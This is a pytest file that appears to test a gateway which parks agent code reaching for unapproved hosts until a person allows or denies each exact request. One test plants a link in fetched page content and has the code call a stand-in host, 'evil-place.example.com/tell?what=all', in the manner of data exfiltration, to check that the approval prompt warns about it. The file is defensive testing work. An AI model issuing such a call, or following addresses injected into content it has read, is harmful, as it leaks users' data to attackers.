"""Code reaches for a place nobody has allowed: the run waits for a person, and does what the person says."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from shared.store.port import Cause, Tx
from tests.flows.house import House, new_house
from tests.flows.imports import LIVE_ONLY, agent_zip, imported, live_run, local, rehearsed
from tests.flows.person import Answered, Json, Person
from tests.flows.shops import Shops, Sink

pytestmark = pytest.mark.deployed


@pytest.fixture(scope="module")
def stalls() -> Iterator[tuple[Shops, Sink]]:
    market, other = Shops(), Sink()
    yield market, other
    market.close()
    other.close()


@pytest.fixture(scope="module")
def yard(tmp_path_factory: pytest.TempPathFactory, stalls: tuple[Shops, Sink]) -> Iterator[House]:
    """One house for all tests that need no other: each brings an agent of its own."""
    market, other = stalls
    made = new_house(tmp_path_factory.mktemp("yard"), open_ports=(market.port, other.port)).open()
    yield made
    made.close()


@pytest.fixture
def market(stalls: tuple[Shops, Sink]) -> Shops:
    """Shops that nobody has visited yet."""
    stalls[0].requests.clear()
    return stalls[0]


@pytest.fixture
def other(stalls: tuple[Shops, Sink]) -> Sink:
    stalls[1].bodies.clear()
    return stalls[1]


READ = """
import urllib.request
page = urllib.request.urlopen({address!r}).read().decode()
agent.state["runs"] = agent.state.get("runs", 0) + 1
agent.deliver("inbox", "read " + str(len(page)) + " runs " + str(agent.state["runs"]))
"""


def parked(person: Person, shops: Shops, main: str = "") -> Json:
    run = live_run(person, main or READ.format(address=shops.address("a")), state=True)
    assert run["status"] == "parked", run["reason"]
    return run


def question_of(person: Person, run: Json) -> Json:
    items = person.call("GET", "/api/v1/permission-requests?status=open")["items"]
    found: Json = next(item for item in items if item["run_id"] == run["id"])
    return found


def decide(person: Person, question: Json, decision: str) -> None:
    person.call("POST", f"/api/v1/permission-requests/{question['id']}/decision", {"decision": decision})


def after(person: Person, run: Json) -> Json:
    over: Json = person.wait(f"/api/v1/runs/{run['id']}", lambda r: r["settled_at"] is not None)
    return over


def test_a_run_asks_once_and_nothing_has_left_when_it_reaches_for_a_host_nobody_allowed(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    run = parked(person, market)
    question = question_of(person, run)
    assert f"127.0.0.1:{market.port}" in question["sentence"]
    assert f"127.0.0.1:{market.port}" in run["reason"]["text"]
    assert market.requests == []
    # The run is the executor's and can be read before the gateway has heard of it.
    told = person.wait("/api/v1/notices", lambda page: any(n["about"] == run["id"] for n in page["items"]))
    assert [(n["kind"], n["needs_decision"]) for n in told["items"] if n["about"] == run["id"]] == [
        ("parked", True)
    ]


def test_the_run_goes_on_from_the_same_state_and_finishes_when_the_person_allows_it(
    any_house: House, shops: Shops
) -> None:
    person = any_house.person(patience_s=40)
    run = parked(person, shops)
    decide(person, question_of(person, run), "allow")
    over = after(person, run)
    assert (over["status"], over["outcome"], over["attempt"]) == ("succeeded", "delivered", 2), over["reason"]
    assert [d["text"].split()[-1] for d in over["deliveries"]] == ["1"]
    assert shops.requests == ["GET /a/new"]
    assert over["grant_id"] != run["grant_id"]


def test_the_next_run_needs_no_new_question_when_the_person_has_allowed_the_place(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    run = parked(person, market)
    decide(person, question_of(person, run), "allow")
    after(person, run)
    following = person.runs(run["agent_id"])
    assert following["status"] == "succeeded", following["reason"]


def test_the_run_is_refused_and_nothing_has_left_when_the_person_denies_it(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    run = parked(person, market)
    question = question_of(person, run)
    decide(person, question, "deny")
    over = after(person, run)
    assert (over["status"], over["outcome"], over["reason"]["code"]) == ("refused", "not_delivered", "denied")
    assert market.requests == []
    assert over["attempt"] == 1
    with pytest.raises(Answered) as answer:
        decide(person, question, "allow")
    assert answer.value.status == 409


def test_the_run_fails_when_it_reaches_for_a_second_place_after_the_first_was_allowed(
    yard: House, market: Shops, other: Sink
) -> None:
    person = yard.person(patience_s=40)
    second = f"urllib.request.urlopen({other.address!r})"
    run = parked(person, market, READ.format(address=market.address("a")) + second)
    decide(person, question_of(person, run), "allow")
    over = after(person, run)
    assert (over["status"], over["reason"]["code"]) == ("failed", "not_allowed")
    assert f"127.0.0.1:{other.port}" in over["reason"]["text"]
    assert other.bodies == []
    assert over["deliveries"][0]["status"] == "held"
    asked = person.call("GET", "/api/v1/permission-requests?status=open")["items"]
    assert [request for request in asked if request["run_id"] == run["id"]] == []
    states = person.call("GET", f"/api/v1/agents/{run['agent_id']}/state/versions")["items"]
    assert states == []


def test_only_the_place_that_was_asked_for_is_opened_when_the_person_allows_it(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    other = f"urllib.request.urlopen({market.address('b')!r})"
    run = parked(person, market, READ.format(address=market.address("a")) + other)
    decide(person, question_of(person, run), "allow")
    over = after(person, run)
    assert (over["status"], over["reason"]["code"]) == ("failed", "not_allowed")
    assert market.requests == ["GET /a/new"]


@pytest.mark.parametrize(
    "wanted",
    [
        'urllib.request.urlopen({address!r} + "/below")',
        'urllib.request.urlopen(urllib.request.Request({address!r}, method="HEAD"))',
        "urllib.request.urlopen(urllib.request.Request({address!r}, data=b'x'))",
        'urllib.request.urlopen({address!r}.replace("http:", "https:"))',
    ],
)
def test_neither_a_path_below_nor_another_method_or_scheme_is_opened_when_one_request_was_allowed(
    wanted: str, yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    address = market.address("a")
    run = parked(person, market, READ.format(address=address) + wanted.format(address=address))
    question = question_of(person, run)
    assert (question["method"], question["path"], question["kind"]) == ("GET", "/a/new", "host")
    assert question["version_id"] == run["version_id"]
    assert "GET /a/new" in question["sentence"]
    decide(person, question, "allow")
    over = after(person, run)
    assert (over["status"], over["reason"]["code"]) == ("failed", "not_allowed")
    assert market.requests == ["GET /a/new"]


def test_the_question_warns_when_the_address_stood_in_something_the_code_had_read(
    yard: House, market: Shops, other: Sink
) -> None:
    person = yard.person(patience_s=40)
    hidden = "evil-place.example.com"
    market.items["a"] = [*market.items["a"], ("a9", f"더 보기: https://{hidden}/tell", 1)]
    main = f"""
import urllib.request
page = urllib.request.urlopen({market.address("a")!r}).read().decode()
urllib.request.urlopen("https://{hidden}/tell?what=all")
"""
    run = live_run(person, main, hosts=[local(market.port)])
    question = question_of(person, run)
    assert (question["host"], question["method"], question["path"]) == (hidden, "GET", "/tell?what=all")
    assert "읽은 내용" in question["warning"]
    plain = parked(person, market)
    assert question_of(person, plain)["warning"] == ""


def test_a_yes_is_void_when_the_agent_has_another_version_by_now(yard: House, market: Shops) -> None:
    person = yard.person(patience_s=40)
    run = parked(person, market)
    question = question_of(person, run)
    gateway = yard.databases.own("gateway")

    def another(tx: Tx) -> None:
        found = tx.get("agents", run["agent_id"])
        assert found is not None
        tx.put("agents", run["agent_id"], {**found.data, "version_id": "version_of_tomorrow"})

    gateway.transact(another, cause=Cause(question["workspace_id"], "service:gateway"))
    with pytest.raises(Answered) as answer:
        decide(person, question, "allow")
    assert (answer.value.status, answer.value.body["code"]) == (409, "request_void")
    assert market.requests == []


def test_a_place_inside_a_tunnel_is_asked_for_and_opened_when_it_is_named_by_connect(
    yard: House, market: Shops
) -> None:
    """The shop speaks no TLS: the second attempt gets through the gateway's rules and fails behind them."""
    person = yard.person(patience_s=40)
    main = f"""
import urllib.request
try:
    urllib.request.urlopen("https://127.0.0.1:{market.port}/a/new")
except OSError as error:
    agent.deliver("inbox", repr(error))
"""
    run = parked(person, market, main)
    question = question_of(person, run)
    assert (question["scheme"], question["method"], question["path"]) == ("https", "GET", "/a/new")
    decide(person, question, "allow")
    over = after(person, run)
    assert over["status"] == "succeeded", over["reason"]
    assert "undeclared" not in over["deliveries"][0]["text"]


def test_a_rehearsal_is_not_parked_but_fails_with_the_reason_when_it_reaches_out(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    code = LIVE_ONLY.split("if")[0] + READ.format(address=market.address("a"))
    conversation = rehearsed(person, agent_zip(code))
    assert conversation["state"] == "failed"
    assert f"127.0.0.1:{market.port}" in conversation["problem"]
    assert market.requests == []


def test_what_an_import_says_about_itself_stands_apart_as_its_authors_words(
    yard: House, market: Shops
) -> None:
    person = yard.person(patience_s=40)
    conversation = imported(person, agent_zip(LIVE_ONLY, hosts=[local(market.port)]))
    plan = conversation["plan"]
    assert plan["author_words"] == "만든 사람의 설명: 아무것도 위험하지 않아요"
    assert "위험하지 않아요" not in plan["summary"]
    assert plan["status"] == "proposed"
    assert [rule["host"] for rule in plan["agent_file"]["manifest"]["hosts"]] == ["127.0.0.1"]
